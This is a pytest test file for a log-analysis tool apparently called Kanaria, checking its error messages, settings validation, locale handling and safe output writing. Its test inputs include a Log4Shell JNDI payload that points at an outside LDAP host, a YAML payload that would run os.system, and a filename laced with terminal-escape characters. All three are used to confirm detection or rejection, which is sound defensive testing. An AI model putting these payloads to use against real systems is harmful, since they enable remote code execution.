"""Wrong usage: exit status 2, one message that says what was expected, what came, and what to do about it."""

from __future__ import annotations

import os
import stat
from pathlib import Path

import pytest

from tests.app.running import Kanaria
from tests.running import PATIENCE

LINE = '203.0.113.5 - - [21/Jun/2026:07:00:00 +0000] "GET / HTTP/1.1" 200 12 "-" "curl/8"\n'


@pytest.fixture
def log(tmp_path: Path) -> Path:
    file = tmp_path / "a.log"
    file.write_text(LINE * 50)
    return file


@pytest.mark.parametrize(
    ("arguments", "said"),
    [
        (["nocommand"], "No such command"),
        (["analyze"], "Missing argument"),
        (["explain", "a.log"], "expected a log line; got the name of a file (files are read by kanaria analyze)"),
        (["analyze", "missing.log"], "missing.log: expected a file, a directory, a pattern or -; got nothing there"),
        (["analyze", "no*.log"], "no file matches the pattern"),
        (["analyze", "a.log", "--lang", "fr"], "'fr' is not one of"),
        (["analyze", "a.log", "--format", "pdf"], "'pdf' is not one of"),
        (["analyze", "a.log", "--input-format", "combind"], "did you mean combined"),
        (["analyze", "a.log", "--log-format", "%Z"], "expected an Apache LogFormat or nginx log_format string"),
        (["analyze", "a.log", "--log-format", ""], "expected the server's LogFormat"),
        (["analyze", "a.log", "--home", "nonsense"], "expected a network such as"),
        (["analyze", "a.log", "-o", "/no/such/report"], "expected a place to write the report to"),
        (["analyze", "a.log", "-o", "."], "Is a directory"),
        (["analyze", "a.log", "--rejects", "/no/such/file"], "expected a place to write rejected records to"),
        (["analyze", "a.log", "--store", "a.log"], "expected a folder to keep incidents in"),
        (["rules", "explain", "web_log4shel", "a.log"], "did you mean web_log4shell"),
        (["rules", "explain", "web_log4shell", "a.log", "--row", "500"], "expected a record 500"),
        (["rules", "convert", "web_log4shell", "--to", "cobol"], "expected a SQL dialect; got 'cobol'"),
        (["knowledge", "nokind"], "expected one of vulnerabilities"),
        (["knowledge", "update"], "expected --pools, --networks or --download"),
        (["incident", "show", "i-nope"], "expected the id of a stored incident"),
        (["incident", "set", "i-nope", "closed", "--why", "x"], "expected the id of a stored incident"),
    ],
)  # fmt: skip
def test_wrong_usage(log: Path, kanaria: Kanaria, arguments: list[str], said: str) -> None:
    done = kanaria(*arguments)
    assert done.status == 2
    assert said in " ".join(done.err.split())
    assert done.out == ""


@pytest.mark.parametrize(
    ("settings", "said"),
    [
        (b"hoem: []\n", "did you mean home?"),
        (b"zzzzzz: 1\n", "known settings: alerts_per_day, allowed"),
        (b"allowed: {pool: [x]}\n", "allowed.pool: expected a known setting; got 'pool' (did you mean pools?)"),
        (b"home: 3\n", "home: expected a list of texts; got 3"),
        (b"home: [1]\n", "home: expected a list of texts"),
        (b"home: [bad]\n", "expected a network such as"),
        (b"home: [\n", "expected a readable YAML file"),
        (b"\xff\xfe\x81home", "expected a readable YAML file"),
        (b"- a\n", "expected settings as key: value; got ['a']"),
        (b"0\n", "expected settings as key: value; got 0"),
        (b"false\n", "expected settings as key: value; got False"),
        (b"alerts_per_day: many\n", "alerts_per_day: expected a number above 0; got 'many'"),
        (b"alerts_per_day: .nan\n", "expected a number above 0"),
        (b"alerts_per_day: 0\n", "expected a number above 0"),
        (b"baseline: {half_life_days: .inf}\n", "baseline.half_life_days: expected a number above 0"),
        (b"baseline: {half_life_days: 2}\n", "yaml:1: baseline.half_life_days: expected at least 7 days; got 2.0"),
        (b"baseline: {learn_incidents: 1}\n", "expected true or false; got 1"),
        (b"devices: {roles: {192.0.2.1: 3}}\n", "devices.roles: expected a mapping of texts to texts"),
        (b"knowledge: [x]\n", "knowledge: expected a text"),
        (b"knowledge: /no/such/folder\n", "expected a folder with knowledge files"),
        (b"!!python/object/apply:os.system [id]\n", "expected a readable YAML file"),
    ],
)  # fmt: skip
def test_settings_that_are_wrong(tmp_path: Path, log: Path, kanaria: Kanaria, settings: bytes, said: str) -> None:
    (tmp_path / "settings.yaml").write_bytes(settings)
    done = kanaria("analyze", "a.log", "--config", "settings.yaml")
    assert done.status == 2
    assert said in done.err
    assert done.out == ""


@pytest.mark.parametrize("settings", [b"", b"# nothing yet\n", b"---\n", b"{}\n"])
def test_empty_settings_are_the_defaults(tmp_path: Path, log: Path, kanaria: Kanaria, settings: bytes) -> None:
    (tmp_path / "kanaria.yaml").write_bytes(settings)
    assert kanaria("analyze", "a.log", "--config", "kanaria.yaml").status == 0


def test_settings_that_lie_in_the_way_are_named_and_not_read(tmp_path: Path, log: Path, kanaria: Kanaria) -> None:
    for name in ("kanaria.yaml", "kanaria.toml"):
        (tmp_path / name).write_text("no such settings: at all\n")
        done = kanaria("analyze", "a.log")
        assert done.status == 0
        assert f"The working directory has a {name}, which was not read" in " ".join(done.out.split())
        (tmp_path / name).unlink()


def test_the_report_says_which_settings_were_in_force(tmp_path: Path, log: Path, kanaria: Kanaria) -> None:
    (tmp_path / "mine.yaml").write_text("home: [192.0.2.0/24]\n")
    done = kanaria("analyze", "a.log", "--config", "mine.yaml")
    assert "Settings in force: mine.yaml." in done.out
    assert "in force" not in kanaria("analyze", "a.log").out


def test_settings_that_are_missing_are_named(log: Path, kanaria: Kanaria) -> None:
    done = kanaria("analyze", "a.log", "--config", "none.yaml")
    assert done.status == 2
    assert "none.yaml" in done.err


def test_a_rule_folder_that_is_missing_is_told(tmp_path: Path, log: Path, kanaria: Kanaria) -> None:
    (tmp_path / "kanaria.yaml").write_text("rules: [/no/such/rules]\n")
    done = kanaria("analyze", "a.log", "--config", "kanaria.yaml")
    assert "rules not loaded: /no/such/rules: expected a readable file" in done.out


def test_messages_show_hostile_names_harmlessly(kanaria: Kanaria) -> None:
    done = kanaria("analyze", "\x1b[31mno\u202e.log")
    assert done.status == 2
    assert "\\x1b[31mno\\u202e.log" in done.err
    assert not {"\x1b", "\u202e"} & set(done.err)


@pytest.mark.parametrize(
    ("environment", "japanese"),
    [
        ({"LANG": "ja_JP.UTF-8"}, True),
        ({"LC_ALL": "ja_JP.eucJP", "LANG": "en_GB.UTF-8"}, True),
        ({"LC_ALL": "en_GB.UTF-8", "LANG": "ja_JP.UTF-8"}, False),
        ({"LC_MESSAGES": "ja_JP.UTF-8", "LANG": "C"}, True),
        ({"LANG": ""}, False),
    ],
)
def test_language_follows_the_locale(log: Path, kanaria: Kanaria, environment: dict[str, str], japanese: bool) -> None:
    assert ("件の記録を調べましたが" in kanaria("analyze", "a.log", **environment).out) is japanese


def test_the_option_beats_the_locale(log: Path, kanaria: Kanaria) -> None:
    assert "Nothing of mining" in kanaria("analyze", "a.log", "--lang", "en", LANG="ja_JP.UTF-8").out


def test_a_device_given_as_output_is_written_to_and_never_replaced(tmp_path: Path, log: Path, kanaria: Kanaria) -> None:
    import threading

    fifo = tmp_path / "fifo"
    os.mkfifo(fifo)
    read: list[str] = []
    reader = threading.Thread(target=lambda: read.append(fifo.read_text()))
    reader.start()
    assert kanaria("analyze", "a.log", "-o", "fifo").status == 0
    reader.join(PATIENCE)
    assert stat.S_ISFIFO(fifo.stat().st_mode)
    assert read[0].startswith("Nothing of mining")


def test_a_link_given_as_output_stays_a_link(tmp_path: Path, log: Path, kanaria: Kanaria) -> None:
    (tmp_path / "real.txt").write_text("old")
    (tmp_path / "link.txt").symlink_to("real.txt")
    assert kanaria("analyze", "a.log", "-o", "link.txt").status == 0
    assert (tmp_path / "link.txt").is_symlink()
    assert (tmp_path / "real.txt").read_text().startswith("Nothing of mining")


def test_a_report_that_could_not_be_written_leaves_nothing(tmp_path: Path, log: Path, kanaria: Kanaria) -> None:
    before = sorted(file.name for file in tmp_path.iterdir())
    (tmp_path / "folder").mkdir()
    assert kanaria("analyze", "a.log", "-o", "folder").status == 2
    assert sorted(file.name for file in tmp_path.iterdir()) == sorted([*before, "folder"])


def test_a_layout_is_used_without_naming_the_format(tmp_path: Path, kanaria: Kanaria) -> None:
    (tmp_path / "own.log").write_text('200 203.0.113.9 0.004 "GET /?x=${jndi:ldap://198.51.100.66/a} HTTP/1.1"\n')
    done = kanaria("analyze", "own.log", "--log-format", '%>s %h %T "%r"', "--format", "json")
    assert done.document["inputs"][0]["format"] == "logformat"
    assert done.incident["entities"]["remotes"] == ["203.0.113.9"]


def test_no_temporary_folder_stays_behind(tmp_path: Path, log: Path, kanaria_process: Kanaria) -> None:
    temporary = tmp_path / "tmp"
    temporary.mkdir()
    assert kanaria_process("analyze", "a.log", TMPDIR=str(temporary)).status == 0
    assert list(temporary.iterdir()) == []


@pytest.mark.parametrize(("arguments", "said"), [
    (("analyze", "bad.gz"), "bad.gz: 破損箇所より前の部分だけを読み取りました(gzipのデータは、圧縮された6バイト目より後が壊れています: 「Error -3"),
    (("status", "--nope"), "ヘルプ: 'kanaria status --help'"),
    (("doctor", "--config", "k.toml"), "(kanaria serve または systemctl start kanaria で起動してください)"),
    (("check-config", "--config", "none.toml"), "none.toml: 必要なもの: 読み取れるTOMLファイル。実際: ファイルまたはディレクトリがありません"),
    (("check-config", "--config", "broken.yaml"), "broken.yaml:1: 必要なもの: 読み取れるYAMLファイル。実際: 書き方の誤り("),
    (("check-config", "--config", "unset.toml"), "実際: 指定なし"),
])  # fmt: skip
def test_what_others_say_is_quoted_and_what_we_say_is_japanese(
    kanaria: Kanaria, tmp_path: Path, arguments: tuple[str, ...], said: str
) -> None:
    (tmp_path / "bad.gz").write_bytes(b"\x1f\x8b\x08bad")
    (tmp_path / "k.toml").write_text('store = "s"\n[[sources]]\nkind = "stdin"\n')
    (tmp_path / "broken.yaml").write_text("a: [")
    (tmp_path / "unset.toml").write_text("[[notify]]\n")
    done = kanaria(*arguments, "--lang", "ja")
    assert said in (done.out + done.err).replace("\n", "")
